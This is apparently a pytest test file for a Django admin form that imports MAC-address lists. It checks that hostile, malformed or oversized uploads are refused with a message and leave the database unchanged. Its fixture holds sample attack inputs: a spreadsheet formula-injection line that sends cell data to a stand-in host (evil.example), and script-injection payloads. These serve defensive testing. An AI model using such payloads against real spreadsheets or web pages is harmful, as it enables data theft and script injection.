"""The MAC list forms against what careless users and attackers send: every answer is a form
page with a named refusal (never a 5xx), at most one capped list of reasons, and no write."""

import codecs

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from fleet.admin import REFUSALS_SHOWN
from tests.factories import TrackerFactory
from tracking.models import AuditEvent, Tracker

pytestmark = pytest.mark.django_db

RECEIVE = "admin:fleet_devices_receive"


def _macs(n: int, start: int = 0) -> list[str]:
    return [
        ":".join(f"{(i >> s) & 0xFF:02X}" for s in (40, 32, 24, 16, 8, 0))
        for i in range(start, start + n)
    ]


@pytest.fixture
def staff(client, world):
    client.force_login(world.staff)
    return client


def _upload(client, content: bytes, name="macs.csv"):
    return client.post(reverse(RECEIVE), {"macs_file": SimpleUploadedFile(name, content)})


def _refusals(response) -> list[str]:
    return [str(m) for m in response.context["messages"]] if response.context else []


def _nothing_written(before_states):
    assert AuditEvent.objects.count() == before_states[0]
    assert (
        list(Tracker.objects.values_list("pk", "lifecycle_state").order_by("pk"))
        == before_states[1]
    )


def _state():
    return AuditEvent.objects.count(), list(
        Tracker.objects.values_list("pk", "lifecycle_state").order_by("pk")
    )


HOSTILE = {
    "binary": bytes(range(256)) * 64,
    "utf-16 without a byte order mark": "AA:BB:CC:DD:EE:01\n".encode("utf-16-le"),
    "latin-1": "AA:BB:CC:DD:EE:01\nCafé\n".encode("latin-1"),
    "formula injection": b'=HYPERLINK("http://evil.example/?x="&A1,"click")\n+1+1\n@SUM(A1)\n',
    "script injection": b"<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n",
    "truncated CSV": b'mac,serial\n"AA:BB:CC:DD:EE:01,"12\n',
    "deeply nested JSON": b"[" * 50_000 + b"]" * 50_000,
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_files_are_refused_with_a_reason_and_nothing_written(staff, world, content):
    before = _state()
    response = _upload(staff, content)
    assert response.status_code == 200
    body = response.content.decode()
    assert "Refused, nothing was changed" in body or "errorlist" in body
    assert "<script>alert(1)</script>" not in body and "<img src=x" not in body
    _nothing_written(before)


def test_utf16_with_a_byte_order_mark_is_read(staff, world):
    tracker = TrackerFactory(lifecycle_state=Tracker.Lifecycle.EXPORTED)
    content = codecs.BOM_UTF16_LE + f"{tracker.mac_address}\n".encode("utf-16-le")
    response = _upload(staff, content)
    assert response.status_code == 302
    tracker.refresh_from_db()
    assert tracker.lifecycle_state == Tracker.Lifecycle.IN_STOCK


def test_a_hundred_thousand_unknown_macs_get_one_capped_banner(staff, world):
    before = _state()
    content = ("\n".join(_macs(100_000)) + "\n").encode()
    response = _upload(staff, content)
    assert response.status_code == 200
    refusals = _refusals(response)
    assert len(refusals) == 1
    body = response.content.decode()
    assert body.count("<li>line ") <= REFUSALS_SHOWN
    assert f"and {100_000 - REFUSALS_SHOWN} more." in body
    assert len(response.content) < 500_000
    _nothing_written(before)


def test_a_file_over_the_upload_limit_is_refused_by_its_size(staff, world, settings):
    before = _state()
    settings.UPLOAD_MAX_BYTES = 10_000_000
    content = b"AA:BB:CC:DD:EE:FF\n" * (settings.UPLOAD_MAX_BYTES // 18 + 1)
    response = _upload(staff, content)
    assert response.status_code == 200
    assert "larger than the limit of 10 MB" in response.content.decode()
    _nothing_written(before)


def test_a_hundred_megabyte_file_is_refused_without_reading_it(staff, world):
    before = _state()
    content = b"\x00" * 100_000_000
    response = _upload(staff, content)
    assert response.status_code == 200
    assert "larger than the limit" in response.content.decode()
    _nothing_written(before)
